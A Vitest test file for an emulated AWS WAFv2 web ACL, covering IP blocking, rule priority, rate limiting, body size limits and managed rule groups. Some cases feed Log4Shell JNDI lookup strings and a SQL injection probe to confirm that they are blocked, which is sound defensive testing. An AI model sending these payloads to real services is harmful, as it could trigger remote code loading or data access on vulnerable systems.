/**
 * The WAF web ACL of a stage through the real pipeline, on the test clock (W1-W7). The fixture's API is mock-only.
 */
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startEmulator, StrictModeError } from '../../../emulator/app.js';
import { createGateway } from '../../../emulator/gateway/pipeline.js';
import type { Gateway } from '../../../emulator/gateway/types.js';
import { ApiKeyRegistry } from '../../../emulator/identity/api-keys.js';
import { ManualClock } from '../../../emulator/limits/clock.js';
import { limitsFor } from '../../../emulator/limits/index.js';
import type { LambdaInvoker } from '../../../emulator/lambda/types.js';
import { loadTemplate } from '../../../emulator/template/load.js';
import type { LoadedTemplate } from '../../../emulator/template/model.js';
import { tempLocalState } from '../identity/support/fixtures.js';

const FIXTURE = fileURLToPath(new URL('../fixtures/waf/template.yaml', import.meta.url));
/** FAKE invoker: the fixture has mock integrations only, so nothing may be invoked. */
const noLambda: LambdaInvoker = { invoke: () => Promise.reject(new Error('the WAF fixture invokes no function')) };

const local = tempLocalState();
let template: LoadedTemplate;
beforeAll(async () => {
  template = await loadTemplate(FIXTURE);
});
afterAll(() => local.cleanup());

interface Send {
  method?: string;
  headers?: [string, string][];
  body?: string;
  ip?: string;
}

function world(tpl: LoadedTemplate = template) {
  const clock = new ManualClock(Date.UTC(2026, 10, 30, 12));
  const limits = limitsFor(tpl, local.state, clock);
  const registry = ApiKeyRegistry.fromTemplate(tpl, local.state);
  const gateways: Record<string, Gateway> = {};
  for (const api of tpl.apis) gateways[api.logicalId] = createGateway({ api, template: tpl, invoker: noLambda, log: () => undefined, ...limits.forApi(api, tpl, registry) });
  const send = async (path: string, init: Send = {}, api = 'WafApi') => {
    const pairs: [string, string][] = [['Host', 'localhost:3000'], ['User-Agent', 'vitest'], ...(init.headers ?? [])];
    const request = new Request(`http://localhost:3000${path}`, { method: init.method ?? 'GET', headers: pairs, ...(init.body !== undefined ? { body: init.body } : {}) });
    const res = await gateways[api]!.fetch(request, { remoteAddress: init.ip ?? '192.0.2.1', rawHeaders: pairs.flat() });
    return { status: res.status, type: res.headers.get('x-amzn-errortype'), body: await res.text() };
  };
  return { clock, gateways, send };
}

describe('W3.1 W3.2 a blocked request', () => {
  it('W3.1 [AMBIGUOUS W3.2] gets WAF_FILTERED: 403 {"message":"Forbidden"}, ForbiddenException', async () => {
    const got = await world().send('/v1/anything', { ip: '198.51.100.7' });
    expect(got).toEqual({ status: 403, type: 'ForbiddenException', body: '{"message":"Forbidden"}' });
  });

  it('W3.1 R8.3 WAF_FILTERED goes through the API gateway responses (customised to 404 here)', async () => {
    const got = await world().send('/closed/x', {}, 'ClosedApi');
    expect({ status: got.status, body: got.body }).toEqual({ status: 404, body: '{"blocked":true}' });
  });

  it('W1.4 the web ACL runs before routing: an unmatched method on a default-Block stage is WAF_FILTERED, not Missing Authentication Token', async () => {
    const got = await world().send('/closed/x', { method: 'DELETE' }, 'ClosedApi');
    expect(got.status).toBe(404);
    expect(got.body).toBe('{"blocked":true}');
  });
});

describe('W2 rules by priority, actions and labels', () => {
  it.each([
    { name: 'W2.3 no rule matches: the default action Allow', send: {}, path: '/v1/ok', want: 200 },
    { name: 'W5.4 an IP in the block set', send: { ip: '198.51.100.7' }, path: '/v1/ok', want: 403 },
    { name: 'W5.4 the neighbour of a /32 is not in the set', send: { ip: '198.51.100.8' }, path: '/v1/ok', want: 200 },
    { name: 'W5.4 an IPv6 address in a /32 range', send: { ip: '2001:db8::42' }, path: '/v1/ok', want: 403 },
    { name: 'W2.1 Allow at priority 0 ends evaluation: an allowed IP is not blocked by later rules', send: { ip: '203.0.113.9', headers: [['User-Agent', 'BadBot']] as [string, string][] }, path: '/v1/ok', want: 200 },
    { name: 'W2.2 Count does not terminate: GET /admin passes', send: {}, path: '/v1/admin/x', want: 200 },
    { name: 'W2.5 W5.5 a later rule sees the Count rule label: POST /admin is blocked', send: { method: 'POST' }, path: '/v1/admin/x', want: 403 },
    { name: 'W5.5 POST elsewhere has no label and passes', send: { method: 'POST', headers: [['Content-Type', 'application/json']] as [string, string][], body: '{}' }, path: '/v1/other', want: 200 },
    { name: 'W5.1 CONTAINS_WORD matches the word after LOWERCASE', send: { headers: [['User-Agent', 'Mozilla (BadBot; 1.0)']] as [string, string][] }, path: '/v1/ok', want: 403 },
    { name: 'W5.1 CONTAINS_WORD does not match inside a longer word', send: { headers: [['User-Agent', 'notbadbots']] as [string, string][] }, path: '/v1/ok', want: 200 },
    { name: 'W5.2 W5.7 RegexMatch after URL_DECODE and LOWERCASE', send: {}, path: '/v1/q?x=1%20UNION%20%20SELECT%202', want: 403 },
    { name: 'W5.2 the regex does not match other text', send: {}, path: '/v1/q?x=union', want: 200 },
    { name: 'W5.5 And + Not: POST /json without a JSON content type', send: { method: 'POST', headers: [['Content-Type', 'text/plain']] as [string, string][], body: 'x' }, path: '/v1/json', want: 403 },
    { name: 'W5.5 And + Not: POST /json with a JSON content type', send: { method: 'POST', headers: [['Content-Type', 'application/json']] as [string, string][], body: '{}' }, path: '/v1/json', want: 200 },
  ])('$name', async ({ send, path, want }) => {
    expect((await world().send(path, send)).status).toBe(want);
  });
});

describe('W4 body inspection limit', () => {
  const json: [string, string][] = [['Content-Type', 'application/json']];
  it.each([
    { name: 'W4.1 W4.2 a body over the 16 KB inspection limit matches a Body rule with OversizeHandling MATCH', size: 16_385, want: 403 },
    { name: 'W4.1 a body of exactly 16 KB is inspected whole and passes (SizeRestrictions_BODY overridden to Count)', size: 16_384, want: 200 },
  ])('$name', async ({ size, want }) => {
    const body = `"${'a'.repeat(size - 2)}"`;
    expect((await world().send('/v1/upload', { method: 'POST', headers: json, body })).status).toBe(want);
  });
});

describe('W6 rate-based rules on the clock', () => {
  it('W6.1 W6.2 past Limit requests from one IP in the window the IP is blocked, other IPs are not', async () => {
    const w = world();
    const statuses: number[] = [];
    for (let i = 0; i < 12; i++) statuses.push((await w.send('/v1/limited')).status);
    expect(statuses).toEqual([...Array(10).fill(200), 403, 403]);
    expect((await w.send('/v1/limited', { ip: '192.0.2.2' })).status).toBe(200);
  });

  it('W6.1 requests outside the scope-down statement are neither counted nor limited', async () => {
    const w = world();
    for (let i = 0; i < 20; i++) await w.send('/v1/elsewhere');
    expect((await w.send('/v1/limited')).status).toBe(200);
  });

  it('W6.1 the window slides: 60 s after the burst the IP passes again', async () => {
    const w = world();
    for (let i = 0; i < 11; i++) await w.send('/v1/limited');
    w.clock.advance(59_999);
    expect((await w.send('/v1/limited')).status).toBe(403);
    w.clock.advance(60_001);
    expect((await w.send('/v1/limited')).status).toBe(200);
  });

  it('W6.1 FORWARDED_IP aggregates on the first X-Forwarded-For address, not the peer', async () => {
    const w = world();
    const from = (ip: string): Send => ({ headers: [['X-Forwarded-For', `${ip}, 10.0.0.1`]] });
    for (let i = 0; i < 10; i++) expect((await w.send('/v1/fwd', from('192.0.2.50'))).status).toBe(200);
    expect((await w.send('/v1/fwd', from('192.0.2.50'))).status).toBe(403);
    expect((await w.send('/v1/fwd', from('192.0.2.51'))).status).toBe(200);
  });

  it('W6.1 FORWARDED_IP with a malformed header takes the FallbackBehavior (MATCH: acted on)', async () => {
    expect((await world().send('/v1/fwd', { headers: [['X-Forwarded-For', 'not-an-ip']] })).status).toBe(403);
  });
});

describe('W7 managed rule groups: the documented rules', () => {
  it.each([
    { name: 'W7.1 NoUserAgent_HEADER blocks a request without User-Agent', init: { headers: [] as [string, string][] }, path: '/v1/ok', drop: true, want: 403 },
    { name: 'W7.1 SizeRestrictions_QUERYSTRING blocks a query over 2,048 bytes', init: {}, path: `/v1/ok?q=${'a'.repeat(2100)}`, want: 403 },
    { name: 'W7.1 a query of 2,048 bytes passes', init: {}, path: `/v1/ok?q=${'a'.repeat(2046)}`, want: 200 },
    { name: 'W7.1 SizeRestrictions_URIPATH blocks a path over 1,024 bytes', init: {}, path: `/v1/${'p'.repeat(1030)}`, want: 403 },
    { name: 'W7.2 PROPFIND_METHOD', init: { method: 'PROPFIND' }, path: '/v1/ok', want: 403 },
    { name: 'W7.2 Log4JRCE_HEADER', init: { headers: [['X-Api-Version', '${jndi:ldap://example.com/a}']] as [string, string][] }, path: '/v1/ok', want: 403 },
    { name: 'W7.2 Log4JRCE_QUERYSTRING (URL-encoded)', init: {}, path: '/v1/ok?x=%24%7Bjndi%3Aldap%3A%2F%2Fexample.com%2F%7D', want: 403 },
    { name: 'W7.2 Log4JRCE_BODY', init: { method: 'POST', headers: [['Content-Type', 'application/json']] as [string, string][], body: '{"a":"${jndi:rmi://x/}"}' }, path: '/v1/ok', want: 403 },
    { name: 'W7.1 W2.4 SizeRestrictions_BODY overridden to Count lets a 9 KB body through', init: { method: 'POST', headers: [['Content-Type', 'application/json']] as [string, string][], body: `"${'b'.repeat(9000)}"` }, path: '/v1/ok', want: 200 },
  ])('$name', async ({ init, path, want, ...rest }) => {
    const w = world();
    if ('drop' in rest) {
      const request = new Request(`http://localhost:3000${path}`, { headers: [['Host', 'localhost:3000']] });
      const res = await w.gateways.WafApi!.fetch(request, { remoteAddress: '192.0.2.1', rawHeaders: ['Host', 'localhost:3000'] });
      expect(res.status).toBe(want);
      return;
    }
    expect((await w.send(path, init)).status).toBe(want);
  });
});

describe('startup report (never silent)', () => {
  const items = () => world().gateways.WafApi!.support.filter((s) => s.location === 'web ACL Acl');
  const status = (subject: string) => items().find((s) => s.subject === subject)?.status;

  it.each([
    ['AWS::WAFv2::WebACL', 'emulated'],
    ['WAF rule rate-per-ip', 'emulated'],
    ['WAF rule aws-common AWSManagedRulesCommonRuleSet:NoUserAgent_HEADER', 'emulated'],
    ['WAF rule aws-common AWSManagedRulesCommonRuleSet:GenericLFI_URIPATH', 'not-emulated'],
    ['WAF rule aws-bad-inputs AWSManagedRulesKnownBadInputsRuleSet:Log4JRCE_BODY', 'emulated'],
    ['WAF rule aws-bad-inputs AWSManagedRulesKnownBadInputsRuleSet:Host_localhost_HEADER', 'ignored'],
    ['WAF rule xss', 'not-emulated'],
  ])('W7 %s is reported %s', (subject, want) => {
    expect(status(subject)).toBe(want);
  });

  it('W3.3 a custom Block response is reported not emulated (the block itself still happens)', async () => {
    const wafResources = structuredClone(template.wafResources!);
    wafResources.find((r) => r.logicalId === 'Acl')!.properties.DefaultAction = { Block: { CustomResponse: { ResponseCode: 418 } } };
    const custom: LoadedTemplate = { ...template, wafResources };
    const w = world(custom);
    const item = w.gateways.WafApi!.support.find((s) => s.subject === 'WAF DefaultAction Block.CustomResponse');
    expect(item?.status).toBe('not-emulated');
    expect((await w.send('/v1/ok')).status).toBe(403);
  });

  it('W1.2 a stage without an association has no web ACL; EnableWaf=false (condition) removes it', async () => {
    const off = await loadTemplate(FIXTURE, { parameterOverrides: { EnableWaf: 'false' } });
    expect(world(off).gateways.WafApi!.support.some((s) => s.subject.startsWith('AWS::WAFv2') || s.subject.startsWith('WAF rule'))).toBe(false);
    expect((await world(off).send('/v1/x', { ip: '198.51.100.7' })).status).toBe(200);
    expect(off.warnings?.some((w) => w.includes('WAFv2'))).toBe(false);
  });

  it('W7 --strict refuses the managed rules and statements that are not emulated', async () => {
    const started = startEmulator({ templatePath: FIXTURE, port: 0, localDir: local.state.dir, strict: true });
    const error = await started.then(
      async (emulator) => {
        await emulator.close();
        return undefined;
      },
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(StrictModeError);
    const items = (error as StrictModeError).items;
    expect(items).toContainEqual(expect.stringMatching(/^WAF rule aws-common AWSManagedRulesCommonRuleSet:GenericLFI_URIPATH at web ACL Acl/));
    expect(items).toContainEqual(expect.stringMatching(/^WAF rule xss at web ACL Acl: XssMatchStatement \(W5.8\)/));
    expect(items.some((i) => i.includes('NoUserAgent_HEADER') || i.includes('Host_localhost_HEADER'))).toBe(false);
  });
});
